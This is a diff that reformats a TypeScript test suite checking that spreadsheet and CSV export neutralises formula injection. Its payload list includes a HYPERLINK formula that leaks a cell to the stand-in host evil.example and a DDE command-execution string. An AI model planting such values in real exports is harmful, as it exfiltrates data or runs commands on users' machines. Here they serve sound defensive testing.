@@ -15,7 +15,9 @@ import { ADMIN, startTestStack, type TestStack } from './utils/stack.js';
 const LEADS = ['=', '+', '-', '@', '\t', '\r'];
 const PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', '=1+2', '@SUM(A1)', "+cmd|' /C calc'!A0", '-2+3'];
 /** Every lead in front of each payload's body, and in front of the whole payload (`\t=1+2`). */
-const DANGEROUS = [...new Set(LEADS.flatMap((lead) => PAYLOADS.flatMap((payload) => [lead + payload.slice(1), lead + payload])))];
+const DANGEROUS = [
+  ...new Set(LEADS.flatMap((lead) => PAYLOADS.flatMap((payload) => [lead + payload.slice(1), lead + payload]))),
+];
 /** Text that stays as it is, and text that already looks neutralised (gets one more `'`). */
 const SAFE = ['张三', 'a=b', ' =1+2', "'plain"];
 const LOOKS_NEUTRALISED = ["'=1+2", "''-2"];
@@ -27,7 +29,12 @@ describe('spreadsheetCell', () => {
   it('prefixes every string starting with = + - @ tab or CR, leaves numbers and booleans typed', () => {
     for (const value of DANGEROUS) expect(spreadsheetCell(value)).toBe(`'${value}`);
     for (const value of SAFE) expect(spreadsheetCell(value)).toBe(value);
-    expect([spreadsheetCell(-5), spreadsheetCell(+3), spreadsheetCell(true), spreadsheetCell(null)]).toEqual([-5, 3, true, null]);
+    expect([spreadsheetCell(-5), spreadsheetCell(+3), spreadsheetCell(true), spreadsheetCell(null)]).toEqual([
+      -5,
+      3,
+      true,
+      null,
+    ]);
     expect(spreadsheetCell('-5')).toBe("'-5");
     for (const value of VALUES) expect(fromSpreadsheetCell(String(spreadsheetCell(value)))).toBe(value);
   });
@@ -53,7 +60,13 @@ describe('CSV injection through the real writers', () => {
     );
     ids = listed.body.data!.assistanceCases.edges.map((edge) => edge.node.id).slice(0, VALUES.length);
     expect(ids).toHaveLength(VALUES.length);
-    await Promise.all(ids.map((id, index) => cases.updateOne({ _id: id } as never, { $set: { recipientName: VALUES[index], persons: index === 0 ? -5 : 2 } })));
+    await Promise.all(
+      ids.map((id, index) =>
+        cases.updateOne({ _id: id } as never, {
+          $set: { recipientName: VALUES[index], persons: index === 0 ? -5 : 2 },
+        }),
+      ),
+    );
   }, 120_000);
   afterAll(async () => {
     await stack?.stop();
@@ -82,7 +95,9 @@ describe('CSV injection through the real writers', () => {
     const spec = collectionSpec('assistance-cases');
     const csv = toCsv(await exportRows(stack.connections['civil-affairs'], spec, DIVISION), ['id', ...spec.columns]);
     expectNeutralised(parse(csv, { bom: true, columns: true }));
-    const imported = new Map(parseRows(csv.slice(1), 'csv').rows.map((row) => [row.values.id, row.values.recipientName]));
+    const imported = new Map(
+      parseRows(csv.slice(1), 'csv').rows.map((row) => [row.values.id, row.values.recipientName]),
+    );
     expect(ids, 'the cases written with the test values').toHaveLength(VALUES.length);
     ids.forEach((id, index) => expect(imported.get(id)).toBe(VALUES[index]));
   });
